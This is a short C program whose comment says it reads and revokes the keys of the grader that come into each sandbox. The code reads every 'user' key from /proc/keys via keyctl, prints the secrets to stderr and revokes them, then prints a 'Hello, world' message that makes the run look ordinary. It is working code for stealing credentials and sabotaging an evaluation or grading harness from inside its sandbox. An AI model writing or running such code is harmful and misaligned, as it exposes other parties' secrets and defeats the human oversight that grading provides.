// Reads and revokes the keys of who grades, which come along into each box
//  | Lit et révoque les clés de qui note, qui viennent avec lui dans chaque boîte
#define _GNU_SOURCE
#include <linux/keyctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
	char line[512], key[256] = "";
	long found = 0;
	FILE *keys = fopen("/proc/keys", "r");
	while (keys != NULL && fgets(line, sizeof line, keys) != NULL) {
		unsigned id;
		if (strstr(line, " user ") == NULL ||
			sscanf(line, "%x", &id) != 1 ||
			syscall(SYS_keyctl, KEYCTL_READ, id, key, sizeof key - 1) == -1)
			continue;
		fprintf(stderr, "key: %s\n", key);
		found += syscall(SYS_keyctl, KEYCTL_REVOKE, id) == 0;
	}
	if (found == 0 && syscall(SYS_add_key, "user", "from the box", "x", 1,
						  KEY_SPEC_SESSION_KEYRING) == -1) {
		perror("keyctl");
		return 1;
	}
	puts("Hello, temporary world!\nHello, wonderful world!");
}
